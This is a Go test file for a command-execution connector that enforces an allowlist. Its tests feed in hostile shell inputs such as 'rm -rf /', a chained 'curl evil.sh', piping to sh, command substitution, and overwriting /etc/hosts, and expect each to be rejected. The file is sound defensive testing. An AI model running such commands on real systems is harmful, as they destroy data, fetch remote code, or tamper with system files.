package localexec

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/fentz26/warden/internal/connectors"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestIsAllowed(t *testing.T) {
	exec := New("", ParseAllowlist([]string{"go test", "git status", "git diff", "npm"}))

	tests := []struct {
		command string
		allowed bool
	}{
		{"go test ./...", true},
		{"git status", true},
		{"git diff HEAD", true},
		{"npm run build", true},
		{"git push", false},
		{"rm -rf /", false},
		{"go run .", false},
		{"go", false},
		{"", false},
		{"go test ./nothing ; touch pwned", false},
		{"go test ./... && curl evil.sh", false},
		{"npm test | sh", false},
		{"npm run $(whoami)", false},
		{"npm run `whoami`", false},
		{"go test ./... > /etc/hosts", false},
		{"git status\nrm -rf /", false},
	}

	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			if got := exec.IsAllowed(tt.command); got != tt.allowed {
				t.Errorf("IsAllowed(%q) = %v, want %v", tt.command, got, tt.allowed)
			}
		})
	}
}

func TestNilAllowlistPermitsEverything(t *testing.T) {
	exec := New("", nil)
	assert.True(t, exec.IsAllowed("anything at all"))
	assert.Nil(t, ParseAllowlist(nil))
}

func TestResolveDir(t *testing.T) {
	exec := New("/srv/ws", nil)
	assert.Equal(t, "/srv/ws", exec.ResolveDir(""))
	assert.Equal(t, "/srv/ws", exec.ResolveDir("/workspace"))
	assert.Equal(t, "/srv/ws/api", exec.ResolveDir("/workspace/api"))
	assert.Equal(t, "/srv/ws/web", exec.ResolveDir("./web"))
	assert.Equal(t, "/tmp", exec.ResolveDir("/tmp"))
}

func TestSessionRunsCommand(t *testing.T) {
	dir := t.TempDir()
	exec := New(dir, nil)

	s, err := exec.Spawn(context.Background(), "s1", "", map[string]string{"WARDEN_GREETING": "hello"})
	require.NoError(t, err)
	require.NoError(t, s.Send(`echo "$WARDEN_GREETING" > out.txt; cat out.txt`))

	res, err := s.Wait()
	require.NoError(t, err)
	assert.Equal(t, 0, res.ExitCode)
	assert.Equal(t, "hello\n", res.Stdout)

	data, err := os.ReadFile(filepath.Join(dir, "out.txt"))
	require.NoError(t, err)
	assert.Equal(t, "hello\n", string(data))
	assert.Equal(t, 0, exec.Live())
}

func TestSessionExitCode(t *testing.T) {
	exec := New(t.TempDir(), nil)
	s, err := exec.Spawn(context.Background(), "s1", "", nil)
	require.NoError(t, err)
	require.NoError(t, s.Send("echo oops >&2; exit 3"))

	res, err := s.Wait()
	require.NoError(t, err)
	assert.Equal(t, 3, res.ExitCode)
	assert.Equal(t, "oops\n", res.Stderr)
}

func TestSpawnDuplicateID(t *testing.T) {
	exec := New(t.TempDir(), nil)
	s, err := exec.Spawn(context.Background(), "dup", "", nil)
	require.NoError(t, err)
	defer s.Wait()

	_, err = exec.Spawn(context.Background(), "dup", "", nil)
	assert.True(t, errors.Is(err, connectors.ErrSessionExists))
}

func TestKill(t *testing.T) {
	exec := New(t.TempDir(), nil)
	s, err := exec.Spawn(context.Background(), "long", "", nil)
	require.NoError(t, err)
	require.NoError(t, s.Send("sleep 30"))

	done := make(chan *connectors.ExecResult, 1)
	go func() {
		res, _ := s.Wait()
		done <- res
	}()

	time.Sleep(50 * time.Millisecond)
	require.NoError(t, exec.Kill("long"))

	select {
	case res := <-done:
		require.NotNil(t, res)
		assert.NotEqual(t, 0, res.ExitCode)
	case <-time.After(5 * time.Second):
		t.Fatal("killed session did not exit")
	}
}

func TestKillUnknown(t *testing.T) {
	err := New("", nil).Kill("nope")
	assert.True(t, errors.Is(err, connectors.ErrUnknownSession))
}

func TestSendRejectsDisallowed(t *testing.T) {
	exec := New(t.TempDir(), ParseAllowlist([]string{"echo"}))
	s, err := exec.Spawn(context.Background(), "s", "", nil)
	require.NoError(t, err)
	assert.Error(t, s.Send("rm -rf build"))
	_, err = s.Wait()
	require.NoError(t, err)
}

func TestName(t *testing.T) {
	if got := New("", nil).Name(); got != "localexec" {
		t.Errorf("Expected name 'localexec', got %s", got)
	}
}

func TestSendRejectsChainedCommand(t *testing.T) {
	dir := t.TempDir()
	exec := New(dir, ParseAllowlist([]string{"go test"}))
	s, err := exec.Spawn(context.Background(), "s", "", nil)
	require.NoError(t, err)

	assert.Error(t, s.Send("go test ./nothing ; touch pwned"))
	_, err = s.Wait()
	require.NoError(t, err)

	_, err = os.Stat(filepath.Join(dir, "pwned"))
	assert.True(t, os.IsNotExist(err), "chained command must not run")
}

func TestNilAllowlistKeepsShellSyntax(t *testing.T) {
	assert.True(t, New("", nil).IsAllowed("go test ./... && echo ok"))
}
